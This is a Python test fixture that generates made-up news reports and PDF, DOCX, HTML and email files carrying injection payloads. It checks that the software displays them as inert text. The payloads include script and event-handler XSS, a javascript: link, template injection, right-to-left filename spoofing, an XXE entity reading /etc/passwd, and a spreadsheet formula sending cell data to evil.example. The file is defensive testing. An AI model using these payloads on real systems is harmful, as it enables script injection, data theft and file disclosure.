"""Reports that mean harm: whatever they hold must be shown and carried as text, and do nothing.

All of it is made up. Every payload would set ``window.harmed``, so that a browser can say whether one ran.
"""

from __future__ import annotations

from email.headerregistry import Address
from email.message import EmailMessage
from io import BytesIO
from xml.sax.saxutils import escape

from docx import Document

from reportedly.ledger import Ledger
from reportedly.weigh import weigh
from tests.written import DENIED, READER, Written, number, org, person, place, report, says, speaker, unnamed

SCRIPT = "<script>window.harmed=1</script>"
IMAGE = "<img src=x onerror=window.harmed=2>"
BROKEN_OUT = "\"'><svg onload=window.harmed=3>"
ADDRESS = "javascript:window.harmed=4"
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}"
TURNED = "\u202egnp.exe\u202c\u2066x\u2069"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
MARKDOWN = "[click](javascript:window.harmed=5) `code` ![x](http://evil.example/x.png)"
CLOSED = "</textarea></title></style></script><script>window.harmed=6</script><!--"
ENTITY = "]]>&xxe;<!ENTITY xxe SYSTEM 'file:///etc/passwd'>"
PAYLOADS = (SCRIPT, IMAGE, BROKEN_OUT, ADDRESS, TEMPLATE, TURNED, FORMULA, MARKDOWN, CLOSED, ENTITY)
LONG = "Very" * 262_144 + " Long"
"""A name of a megabyte."""

BAND = org(f"Ember Band {SCRIPT}")


def reports() -> list[Written]:
    """One report for each payload: in its name, title, publisher, sentences, names, values and sources."""
    made = []
    for i, payload in enumerate(PAYLOADS):
        day = f"2021-03-{i + 1:02d}"
        leader = person(f"Oskar {payload} Lind")
        made.append(
            report(
                f"{i} {payload}.txt",
                f"Outlet {payload}",
                day,
                (f"Sentence {i} names {payload} as leader.", says("leads", leader, BAND, start="2019")),
                (f"Sentence {i} denies it {payload}.", _denied(leader, payload)),
                (f"Sentence {i} counts {payload}.", says("strength", BAND, number(10 * i, 10 * i + 5, payload))),
                (f"Sentence {i} goes by {payload}.", says("also_known_as", BAND, f"Alias {payload}")),
                (f"Sentence {i} lives at {payload}.", says("based_in", BAND, place(f"Town {payload}"))),
                (f"Sentence {i} shows {payload}.", says("active_on", BAND, payload)),
                title=f"Title {payload}",
            )
        )
    made.append(report("long.txt", LONG[:5000], "2021-04-01", (LONG, says("leads", person(LONG), BAND)), title=LONG))
    return made


def _denied(leader: object, payload: str):  # type: ignore[no-untyped-def]
    by = (unnamed(f"a man with {payload}"), speaker(f"Speaker {payload}"))
    return says("leads", leader, BAND, polarity=DENIED, by=by)  # type: ignore[arg-type]


def fill(ledger: Ledger) -> None:
    """Put all of them into a ledger, and weigh it."""
    for one in reports():
        ledger.add(one.document, one.original, one.claims, reader=READER)
    weigh(ledger)


# --- files, whose properties mean harm too


STORY = "Oskar Lind leads the Ember Band, the Pelmor Herald said. The band denied on 3 March 2021 that Lind left Tarsk."


def files() -> dict[str, bytes]:
    """Files as they are sent: each payload in the properties that its format has, and some in the file's name."""
    made = {"<img src=x onerror=window.harmed=7>.txt": f"{STORY} {SCRIPT} {TURNED}".encode()}
    for i, payload in enumerate((SCRIPT, BROKEN_OUT, TURNED, CLOSED)):
        made |= {
            f"{i} {payload.replace('/', '')}.pdf": _pdf(payload, f"{STORY} Copy {i}."),
            f"{i}.docx": _docx(payload, f"{STORY} Letter {i}."),
            f"{i}.html": _page(payload, f"{STORY} Page {i}."),
            f"{i}.eml": _mail(payload, f"{STORY} Mail {i}."),
        }
    return made


def _pdf(payload: str, words: str) -> bytes:
    """A PDF of one page with the payload as title, author and subject, and all of them in XMP once more."""
    told = "FEFF" + payload.encode("utf-16-be").hex()
    escaped = escape(payload, {'"': "&quot;"})
    xmp = (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">'
        f"{escaped}</rdf:li></rdf:Alt></dc:title><dc:creator><rdf:Seq><rdf:li>{escaped}</rdf:li></rdf:Seq></dc:creator>"
        f"<dc:publisher><rdf:Bag><rdf:li>{escaped}</rdf:li></rdf:Bag></dc:publisher></rdf:Description></rdf:RDF>"
        '</x:xmpmeta><?xpacket end="w"?>'
    ).encode()
    lines = [words[i : i + 80] for i in range(0, len(words), 80)]
    drawn = "".join(
        f"BT /F 11 Tf 1 0 0 1 72 {760 - 14 * i} Tm ({line}) Tj ET\n" for i, line in enumerate(lines)
    ).encode()
    script = f"app.alert\\({len(payload)}\\)"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R /OpenAction << /S /JavaScript /JS ({script}) >> >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawn), drawn),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream" % (len(xmp), xmp),
        f"<< /Title <{told}> /Author <{told}> /Subject <{told}> /Producer <{told}> >>".encode(),
    ]
    out, places = bytearray(b"%PDF-1.4\n"), []
    for place_, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (place_, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R /Info 7 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def _docx(payload: str, words: str) -> bytes:
    document = Document()
    told = document.core_properties
    told.title = told.author = told.subject = told.category = payload
    document.add_heading(payload, 1)
    document.add_paragraph(words)
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def _page(payload: str, words: str) -> bytes:
    told = escape(payload, {'"': "&quot;"})
    return (
        f'<html lang="en"><head><title>{told}</title><meta name="author" content="{told}">'
        f'<meta property="og:site_name" content="{told}"><meta property="og:title" content="{told}">'
        "<script>window.harmed=8</script></head><body onload=window.harmed=9>"
        f"<h1>{told}</h1><p>{words}</p></body></html>"
    ).encode()


def _mail(payload: str, words: str) -> bytes:
    letter = EmailMessage()
    letter["From"] = Address(payload, "desk", "pelmor.example")
    letter["To"] = "reader@pelmor.example"
    letter["Subject"] = payload
    letter["Date"] = "Wed, 03 Mar 2021 09:00:00 +0000"
    letter["List-Id"] = f"{payload} <news.pelmor.example>"
    letter.set_content(words)
    return letter.as_bytes()
